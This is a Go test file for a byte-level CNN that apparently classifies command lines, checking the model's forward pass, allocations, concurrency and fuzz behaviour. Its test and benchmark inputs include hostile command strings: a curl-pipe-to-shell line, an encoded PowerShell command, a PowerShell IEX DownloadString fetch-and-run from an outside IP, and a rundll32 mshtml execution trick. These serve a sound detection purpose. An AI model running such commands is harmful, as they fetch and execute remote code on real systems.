package nn

import (
	"math"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/gomlx/gomlx/core/graph"
	"github.com/gomlx/gomlx/core/tensors"
)

// randomModel is an untrained model with random weights (biases too, so
// that folding them into the tables is exercised).
func randomModel(t testing.TB, a Arch, k int, seed uint64) *ByteCNN {
	t.Helper()
	ps := newParams(a, k)
	rng := rand.New(rand.NewPCG(seed, 3))
	for _, p := range ps {
		for i := range p.data {
			p.data[i] = float32(rng.NormFloat64() * 0.5)
		}
	}
	m, err := newByteCNN(a, k, ps)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// gomlxLogits runs the GoMLX training graph's forward pass on xs.
func gomlxLogits(t *testing.T, m *ByteCNN, xs []string) [][]float32 {
	t.Helper()
	backend, err := newBackend("")
	if err != nil {
		t.Fatal(err)
	}
	defer backend.Finalize()
	net := netGraph{arch: m.Arch, k: m.K}
	exec, err := graph.NewExec(backend, func(in []*graph.Node) *graph.Node {
		n := len(in) - 2
		return net.logits(in[:n], batchInputs{ids: in[n], lens: in[n+1]})
	})
	if err != nil {
		t.Fatal(err)
	}
	d := Dataset{X: xs, Y: make([]int, len(xs))}
	rows := make([]int, len(xs))
	for i := range rows {
		rows[i] = i
	}
	b := makeBatch(d, rows, len(xs), m.Arch, make([]float64, m.K))
	var args []*tensors.Tensor
	for _, p := range m.ps {
		args = append(args, tensors.FromFlatDataAndDimensions(p.data, p.shape...))
	}
	out, err := exec.Exec(append(args, b.tensors()[:2]...))
	if err != nil {
		t.Fatal(err)
	}
	flat := tensors.MustCopyFlatData[float32](out[0])
	logits := make([][]float32, len(xs))
	for i := range logits {
		logits[i] = flat[i*m.K : (i+1)*m.K]
	}
	return logits
}

func TestForwardMatchesGoMLX(t *testing.T) {
	needsGoMLX(t)
	archs := map[string]Arch{
		"default architecture":         DefaultArch(),
		"widths 1 to 7, max length 40": {MaxLen: 40, Embed: 5, Widths: []int{1, 2, 3, 4, 5, 6, 7}, Filters: 9, Hidden: 7},
		"a single wide bank":           {MaxLen: 32, Embed: 4, Widths: []int{8}, Filters: 300, Hidden: 3},
	}
	inputs := []string{
		"", "a", "ls -la /tmp", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
		"\x00\xff\xfe binary \x80", strings.Repeat("curl http://x | sh; ", 20),
	}
	for name, a := range archs {
		t.Run(name, func(t *testing.T) {
			m := randomModel(t, a, 3, 1)
			want := gomlxLogits(t, m, inputs)
			for i, s := range inputs {
				got := m.Logits(s, make([]float32, m.K))
				for c := range got {
					if d := math.Abs(float64(got[c] - want[i][c])); !(d <= 1e-3) {
						t.Errorf("input %d (%d bytes) class %d: Go %v, GoMLX %v", i, len(s), c, got[c], want[i][c])
					}
				}
			}
		})
	}
}

func BenchmarkForward(b *testing.B) {
	m := randomModel(b, DefaultArch(), 3, 1)
	line := "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"; "
	for _, n := range []int{64, 256} {
		s := strings.Repeat(line, n/len(line)+1)[:n]
		b.Run(strconv.Itoa(n)+"B", func(b *testing.B) {
			sc, out := m.NewScratch(), make([]float32, m.K)
			b.ReportAllocs()
			b.SetBytes(int64(n))
			for b.Loop() {
				m.Forward(s, sc, out)
			}
		})
	}
}

func TestForwardProperties(t *testing.T) {
	m := randomModel(t, Arch{MaxLen: 32, Embed: 6, Widths: []int{2, 3, 6}, Filters: 16, Hidden: 8}, 3, 5)
	logits := func(s string) []float32 { return m.Logits(s, make([]float32, m.K)) }
	long := strings.Repeat("a", 32)
	cases := map[string]struct {
		a, b string
		same bool
	}{
		"bytes past MaxLen are ignored":       {long + "evil", long + "good", true},
		"the last byte within MaxLen counts":  {long[:31] + "e", long[:31] + "g", false},
		"padding differs from a NUL byte":     {"ab", "ab\x00", false},
		"the empty string differs from a NUL": {"", "\x00", false},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if a, b := logits(tc.a), logits(tc.b); slices.Equal(a, b) != tc.same {
				t.Errorf("logits %v and %v: equal %t, want %t", a, b, !tc.same, tc.same)
			}
		})
	}
}

func TestForwardDoesNotAllocate(t *testing.T) {
	m := randomModel(t, DefaultArch(), 3, 1)
	sc, out := m.NewScratch(), make([]float32, m.K)
	s := strings.Repeat("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\";", 6)
	if n := testing.AllocsPerRun(20, func() { m.Forward(s, sc, out) }); n != 0 {
		t.Errorf("Forward allocates %v times per call", n)
	}
	if n := testing.AllocsPerRun(20, func() { m.Predict(s) }); n != 0 && !raceEnabled { // -race drops pooled items
		t.Errorf("Predict allocates %v times per call", n)
	}
}

func TestLogitsIsSafeForConcurrentUse(t *testing.T) {
	m := randomModel(t, DefaultArch(), 3, 1)
	inputs := synthetic(64, 0, 1).X
	want := make([][]float32, len(inputs))
	for i, s := range inputs {
		want[i] = m.Forward(s, m.NewScratch(), make([]float32, m.K))
	}
	got := m.LogitsAll(inputs) // scores on all CPUs with pooled scratch
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for i, s := range inputs {
				if z := m.Logits(s, make([]float32, m.K)); !slices.Equal(z, want[i]) {
					t.Errorf("input %d: concurrent logits %v, want %v", i, z, want[i])
				}
			}
		})
	}
	wg.Wait()
	for i := range inputs {
		if !slices.Equal(got[i], want[i]) {
			t.Errorf("input %d: LogitsAll %v, want %v", i, got[i], want[i])
		}
	}
}

// FuzzForward checks that any input scores to finite logits, and that a
// reused Scratch carries nothing over from the previous input.
func FuzzForward(f *testing.F) {
	m := randomModel(f, Arch{MaxLen: 48, Embed: 6, Widths: []int{1, 3, 7}, Filters: 12, Hidden: 8}, 3, 2)
	for _, s := range []string{"", "\x00", "evil", strings.Repeat("\xff", 100), "é€😀"} {
		f.Add(s, "x")
	}
	sc := m.NewScratch()
	f.Fuzz(func(t *testing.T, s, previous string) {
		m.Forward(previous, sc, make([]float32, m.K))
		got := m.Forward(s, sc, make([]float32, m.K))
		want := m.Forward(s, m.NewScratch(), make([]float32, m.K))
		for c, v := range got {
			if math.IsNaN(float64(v)) || math.IsInf(float64(v), 0) || v != want[c] {
				t.Fatalf("logits %v with a used scratch, %v with a fresh one", got, want)
			}
		}
	})
}
